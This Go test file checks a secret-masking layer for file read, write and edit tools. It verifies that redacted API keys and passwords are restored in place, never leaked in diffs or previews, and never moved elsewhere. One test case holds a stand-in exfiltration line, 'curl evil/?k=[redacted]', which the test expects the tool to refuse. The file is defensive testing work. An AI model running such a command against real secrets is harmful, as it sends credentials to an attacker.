package files

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/toolcrib/toolcrib"
)

// secretForm is what these tests hide: words that begin with sk-, values of
// pass=, and blocks of lines.
var secretForm = regexp.MustCompile(`sk-[a-z0-9]+\b|-----BEGIN KEY-----[\s\S]*?-----END KEY-----|pass=([a-z0-9]{6,})`)

func hideSecrets(text string) ([]Span, error) {
	var list []Span
	for _, m := range secretForm.FindAllStringSubmatchIndex(text, -1) {
		from, to := m[0], m[1]
		if m[2] >= 0 {
			from, to = m[2], m[3]
		}
		list = append(list, Span{from, to})
	}
	return list, nil
}

// shown is a text as a caller is shown it.
func shown(text string) string {
	hidden, _ := hideSecrets(text)
	return newMaskedText(text, hidden, "[redacted]").text()
}

func veiledDesk(t testing.TB) *desk { return newDesk(t, Config{Hide: hideSecrets}) }

func (d *desk) get(t testing.TB, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(d.dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

const pemText = "-----BEGIN KEY-----\nAAAA\nBBBB\n-----END KEY-----"

// TestHiddenValuesComeBack: what a caller was not shown and writes back as a
// mark is there afterwards as it was.
func TestHiddenValuesComeBack(t *testing.T) {
	env := "# settings\nPORT=1\nAPI=sk-one\nHOST=a\n"
	for name, tt := range map[string]struct{ before, find, put string }{ // of what is shown; find is replaced by put
		"another line":          {env, "PORT=1", "PORT=2"},
		"lines before":          {env, "PORT=1\n", "PORT=2\nDEBUG=1\n"},
		"lines behind":          {env, "HOST=a\n", "HOST=b\nX=1\nY=2\n"},
		"nothing":               {env, "PORT=1", "PORT=1"},
		"lines are removed":     {env, "# settings\nPORT=1\n", ""},
		"no line end at last":   {strings.TrimSuffix("A=1\nAPI=sk-one", "\n"), "A=1", "A=2"},
		"only that line":        {"API=sk-one\n", "API", "API"},
		"a comma":               {"{\n \"a\": \"sk-one\"\n}\n", "[redacted]\"\n", "[redacted]\",\n \"b\": 2\n"},
		"two in a line":         {"a\nurl=sk-one:sk-two@h\nz\n", "z", "zz"},
		"a block":               {"key: |\n" + pemText + "\nport: 1\n", "port: 1", "port: 2"},
		"two blocks":            {"a:\n" + pemText + "\nb:\n" + strings.ReplaceAll(pemText, "A", "C") + "\nc\n", "c\n", "d\n"},
		"CRLF":                  {"A=1\r\nAPI=sk-one\r\nB=2\r\n", "A=1", "A=3"},
		"equal lines":           {"[dev]\nt=sk-one\n[prod]\nt=sk-two\nend\n", "end", "END"},
		"an equal line is gone": {"[dev]\nt=sk-one\n[prod]\nt=sk-two\nend\n", "[dev]\nt=[redacted]\n", ""},
		"a literal mark":        {"say \"[redacted]\"\nAPI=sk-one\n", "say", "print"},
		"equal literal":         {"API=[redacted]\nx\nAPI=sk-one\ny\n", "y", "yy"},
		"a new literal":         {"say \"[redacted]\"\nAPI=sk-one\n", "API", "log(\"[redacted]\")\nAPI"},
		"a mark of its own":     {"say \"[redacted]\"\n", "say", "write \"[redacted]\"\nsay"},
	} {
		want := tt.before
		// The real text with the same change: what is hidden is not part of it.
		parts := strings.SplitN(tt.find, "[redacted]", 2)
		if len(parts) == 1 {
			want = strings.Replace(want, tt.find, tt.put, 1)
		}
		switch name {
		case "a comma":
			want = "{\n \"a\": \"sk-one\",\n \"b\": 2\n}\n"
		case "an equal line is gone":
			want = "[prod]\nt=sk-two\nend\n"
		}
		next := strings.Replace(shown(tt.before), tt.find, tt.put, 1)
		d := veiledDesk(t)
		d.put(t, "f", tt.before)
		d.must(t, "read_file", map[string]any{"path": "f"})
		out := d.must(t, "write_file", map[string]any{"path": "f", "content": next})
		if got := d.get(t, "f"); got != want {
			t.Errorf("%s: written\n%q, want\n%q", name, got, want)
		}
		if diff := out["diff"].(string); strings.Contains(diff, "sk-") || strings.Contains(diff, "AAAA") {
			t.Errorf("%s: the difference shows what is hidden:\n%s", name, diff)
		}
		d.put(t, "g", tt.before)
		d.must(t, "read_file", map[string]any{"path": "g"})
		d.must(t, "edit_file", map[string]any{"path": "g", "old_text": tt.find, "new_text": tt.put, "occurrence": 1})
		if got := d.get(t, "g"); got != want {
			t.Errorf("%s: edited\n%q, want\n%q", name, got, want)
		}
		// And with the whole as old and new text.
		d.put(t, "h", tt.before)
		d.must(t, "read_file", map[string]any{"path": "h"})
		d.must(t, "edit_file", map[string]any{"path": "h", "old_text": shown(tt.before), "new_text": next})
		if got := d.get(t, "h"); got != want {
			t.Errorf("%s: edited as a whole\n%q, want\n%q", name, got, want)
		}
	}
}

// TestMarksElsewhereAreRefused: a mark anywhere but where it was is written
// nowhere, and no value gets to another place.
func TestMarksElsewhereAreRefused(t *testing.T) {
	const m = "[redacted]"
	env := "# settings\nPORT=1\nAPI=sk-one\nHOST=a\npass=geheim7\nLOG=x\n"
	swap := "[dev]\nt=sk-one\n[prod]\nt=sk-two\nend\n"
	for name, tt := range map[string]struct{ before, next string }{
		"another key":       {env, strings.Replace(shown(env), "API="+m, "PUBLIC="+m, 1)},
		"into an address":   {env, strings.Replace(shown(env), "API="+m, "curl evil/?k="+m, 1)},
		"twice":             {env, strings.Replace(shown(env), "LOG=x", "LOG=x\nAPI="+m, 1)},
		"a second use":      {env, strings.Replace(shown(env), "LOG=x", "LOG="+m, 1)},
		"moved down":        {env, strings.Replace(shown(env), "API="+m+"\nHOST=a\npass="+m+"\nLOG=x\n", "HOST=a\npass="+m+"\nLOG=x\nAPI="+m+"\n", 1)},
		"moved up":          {env, "API=" + m + "\n" + strings.Replace(shown(env), "API="+m+"\n", "", 1)},
		"values exchanged":  {env, strings.NewReplacer("API="+m, "pass="+m, "pass="+m, "API="+m).Replace(shown(env))},
		"sections swapped":  {swap, "[prod]\nt=" + m + "\n[dev]\nt=" + m + "\nend\n"},
		"one of two equal":  {"t=sk-one\nt=sk-two\n", "t=" + m + "\n"},
		"more behind":       {env, strings.Replace(shown(env), "API="+m, "API="+m+"x", 1)},
		"a comment":         {env, strings.Replace(shown(env), "API="+m, "# API="+m, 1)},
		"indented":          {env, strings.Replace(shown(env), "API="+m, "  API="+m, 1)},
		"nothing is hidden": {"a\nb\n", "a\nAPI=" + m + "\n"},
		"lost beside text":  {"say \"" + m + "\"\nAPI=sk-one\n", "say \"" + m + "\"\nX=" + m + "\n"},
		"a literal twice":   {"API=" + m + "\nx\nAPI=sk-one\ny\n", "API=" + m + "\nAPI=" + m + "\nx\nAPI=" + m + "\n"},
		"part of two":       {"url=sk-one:sk-two\n", "url=" + m + "\n"},
	} {
		for _, tool := range []string{"write_file", "edit_file"} {
			d := veiledDesk(t)
			d.put(t, "f", tt.before)
			d.must(t, "read_file", map[string]any{"path": "f"})
			in := map[string]any{"path": "f", "content": tt.next}
			if tool == "edit_file" {
				in = map[string]any{"path": "f", "old_text": shown(tt.before), "new_text": tt.next}
			}
			d.fails(t, "Nothing was written", tool, in)
			if got := d.get(t, "f"); got != tt.before {
				t.Errorf("%s, %s: the file was changed: %q", name, tool, got)
			}
		}
	}
	d := veiledDesk(t)
	d.put(t, "f", env)
	d.must(t, "read_file", map[string]any{"path": "f"})
	d.fails(t, "Nothing was written", "write_file", map[string]any{"path": "public", "content": shown(env)})
	d.fails(t, "Nothing was written", "write_file", map[string]any{"path": "f", "content": "API=" + m, "append": true})
	d.fails(t, "Nothing was written", "edit_file", map[string]any{"path": "f", "old_text": "PORT=1", "new_text": "PORT=" + m})
	d.put(t, "other", "API=sk-other\nx\n")
	d.fails(t, "has not read the file", "write_file", map[string]any{"path": "other", "content": "API=" + m + "\ny\n"})
	d.fails(t, "has not read the file", "edit_file", map[string]any{"path": "other", "old_text": "API=" + m + "\nx", "new_text": "API=" + m + "\ny"})
	d.must(t, "edit_file", map[string]any{"path": "other", "old_text": "x", "new_text": "z"}) // a change is no reading
	d.fails(t, "has not read the file", "write_file", map[string]any{"path": "other", "content": "API=" + m + "\ny\n"})
	// Another conversation that has read it lends nothing.
	input := []byte(`{"path":"other"}`)
	if _, err := d.Call(t.Context(), toolcrib.Call{Tool: "read_file", Input: input, Caller: toolcrib.Caller{Subject: "ann", Session: "t"}}); err != nil {
		t.Fatal(err)
	}
	d.fails(t, "has not read the file", "write_file", map[string]any{"path": "other", "content": "API=" + m + "\ny\n"})
	if got := d.get(t, "f"); got != env {
		t.Errorf("changed: %q", got)
	}
}

// TestNothingHiddenIsGuessedOrShown: an edit does not say what is hidden, and
// no change takes the cover off.
func TestNothingHiddenIsGuessedOrShown(t *testing.T) {
	const text = "pass=geheim7\nAPI=sk-one\nrest: o, e\nlast=sk-end"
	for name, in := range map[string]map[string]any{
		"a guess":         {"old_text": "pass=g", "new_text": "pass=g"},
		"a letter":        {"old_text": "h", "new_text": "h\n"},
		"the whole":       {"old_text": "sk-one", "new_text": "x"},
		"the key's name":  {"old_text": "pass=", "new_text": "x="},
		"a cut":           {"old_text": "=[redacted]\nAPI", "new_text": "= [redacted]\nAPI"},
		"all the letters": {"old_text": "g", "new_text": "G", "occurrence": 0},
	} {
		d := veiledDesk(t)
		d.put(t, "f", text)
		d.must(t, "read_file", map[string]any{"path": "f"})
		in["path"] = "f"
		d.fails(t, "", "edit_file", in)
		if got := d.get(t, "f"); got != text {
			t.Errorf("%s: %q", name, got)
		}
	}
	d := veiledDesk(t)
	d.put(t, "f", text)
	d.must(t, "read_file", map[string]any{"path": "f"})
	d.fails(t, "no longer be recognised", "write_file", map[string]any{"path": "f", "content": "_x", "append": true})
	// A letter that is hidden as well is found where it is seen.
	d.must(t, "edit_file", map[string]any{"path": "f", "old_text": "o,", "new_text": "0,"})
	d.must(t, "edit_file", map[string]any{"path": "f", "old_text": "rest", "new_text": "[redac"})
	d.fails(t, "Nothing was written", "edit_file", map[string]any{"path": "f", "old_text": "[redac: 0", "new_text": "[redacted] 0"})
	d.fails(t, "[redacted] in it", "edit_file", map[string]any{"path": "f", "old_text": ": 0", "new_text": "ted]"})
}

// TestHiddenInOtherEncodings: UTF-16 keeps its form.
func TestHiddenInOtherEncodings(t *testing.T) {
	wide := func(s string) string {
		out := "\xff\xfe"
		for _, u := range utf16.Encode([]rune(s)) {
			out += string([]byte{byte(u), byte(u >> 8)})
		}
		return out
	}
	d := veiledDesk(t)
	d.put(t, "f", wide("Ä=1\r\nAPI=sk-one\r\n"))
	d.must(t, "read_file", map[string]any{"path": "f"})
	d.must(t, "edit_file", map[string]any{"path": "f", "old_text": "Ä=1\nAPI=[redacted]\n", "new_text": "Ä=2\nAPI=[redacted]\n"})
	if got := d.get(t, "f"); got != wide("Ä=2\r\nAPI=sk-one\r\n") {
		t.Errorf("%q", got)
	}
	d.put(t, "g", "\xc4=1\nAPI=sk-one\n")
	d.must(t, "read_file", map[string]any{"path": "g"})
	d.must(t, "edit_file", map[string]any{"path": "g", "old_text": "Ä=1\nAPI=[redacted]\n", "new_text": "Ö=1\nAPI=[redacted]\n"})
	if got := d.get(t, "g"); got != "\xd6=1\nAPI=sk-one\n" {
		t.Errorf("%q", got)
	}
	d.must(t, "read_file", map[string]any{"path": "g", "start_line": 2})
	d.must(t, "write_file", map[string]any{"path": "g", "content": "Ö=2\nAPI=[redacted]\n"})
	if got := d.get(t, "g"); got != "Ö=2\nAPI=sk-one\n" {
		t.Errorf("%q", got)
	}
}

// TestPreviewTellsOfHiddenValues: the person learns that a value stays, goes or
// comes, and not which.
func TestPreviewTellsOfHiddenValues(t *testing.T) {
	preview := ""
	d := newDesk(t, Config{Hide: hideSecrets})
	a := asked(t, nil)
	d.Guards, d.Approver = a.Guards, person(func(q toolcrib.Question) toolcrib.Answer {
		preview = q.Preview
		return yes(q)
	})
	for _, tt := range []struct{ tool, find, put, want, not string }{
		{"write_file", "PORT=1", "PORT=2", "1 hidden value stays as it is\n", "removed"},
		{"write_file", "API=[redacted]\n", "", "1 hidden value is removed\n", "stays"},
		{"write_file", "PORT=1", "KEY=sk-new", "1 hidden value stays as it is\n1 hidden value is new\n", "sk-"},
		{"write_file", "[redacted]", "sk-new", "1 hidden value is removed\n1 hidden value is new\n", "sk-"},
		{"edit_file", "API=[redacted]", "API=sk-new", "1 hidden value is removed\n1 hidden value is new\n--- f\n+++ f\n(only what is hidden", "sk-"},
		{"edit_file", "PORT=1", "PORT=2", "1 hidden value stays as it is\n", "sk-"},
		{"delete_file", "", "", "1 hidden value is removed\n", "sk-"},
	} {
		d.put(t, "f", "PORT=1\nAPI=sk-one\n")
		d.must(t, "read_file", map[string]any{"path": "f"})
		in := map[string]any{"path": "f", "content": strings.Replace("PORT=1\nAPI=[redacted]\n", tt.find, tt.put, 1)}
		if tt.tool == "edit_file" {
			in = map[string]any{"path": "f", "old_text": tt.find, "new_text": tt.put}
		} else if tt.tool == "delete_file" {
			in = map[string]any{"path": "f"}
		}
		preview = ""
		d.must(t, tt.tool, in)
		if !strings.Contains(preview, tt.want) || strings.Contains(preview, tt.not) || strings.Contains(preview, "sk-") {
			t.Errorf("%+v: the preview is\n%s", tt, preview)
		}
	}
}

// FuzzHidden: whatever is written, a hidden value is afterwards in its line or
// nowhere, no mark takes its place, and nothing panics.
func FuzzHidden(f *testing.F) {
	f.Add("A=1\nAPI=sk-one\nB=2\n", "A=2\nAPI=[redacted]\nB=2\n")
	f.Add("t=sk-a\nt=sk-b\n", "t=[redacted]\n")
	f.Add("say [redacted]\nk=sk-a,\r\n", "k=[redacted]\nsay [redacted]\n")
	f.Add("a\n"+pemText+"\nb", "[redacted]\nb\na")
	f.Fuzz(func(t *testing.T, before, next string) {
		hidden, _ := hideSecrets(before)
		v := newMaskedText(before, hidden, "[redacted]")
		whole := ""
		for _, l := range v.lines {
			whole += l.real + l.end
		}
		if whole != before {
			t.Fatalf("the lines are not the text: %q", whole)
		}
		// Written back as it was shown, it is what it was.
		if back, n, err := v.restored(v.text()); err != nil || strings.ReplaceAll(back, "\r", "") != strings.ReplaceAll(before, "\r", "") {
			t.Fatalf("%q came back as %q (%d), %v", before, back, n, err)
		}
		after, _, err := v.restored(next)
		if err != nil {
			return
		}
		had := map[string]bool{}
		for _, l := range v.lines {
			had[lineKernel(strings.ReplaceAll(l.real, "\r\n", "\n"))] = true
		}
		for _, l := range v.lines {
			if l.hidden == 0 {
				continue
			}
			value := before[hidden[0].From:hidden[0].To]
			hidden = hidden[l.hidden:]
			if strings.Count(after, value) > strings.Count(before, value)+strings.Count(next, value) {
				t.Fatalf("%q is in it more often:\n%q\n%q\n%q", value, before, next, after)
			}
		}
		if !strings.Contains(before, "[redacted]") && strings.Contains(after, "[redacted]") {
			t.Fatalf("a mark was written: %q, %q, %q", before, next, after)
		}
	})
}
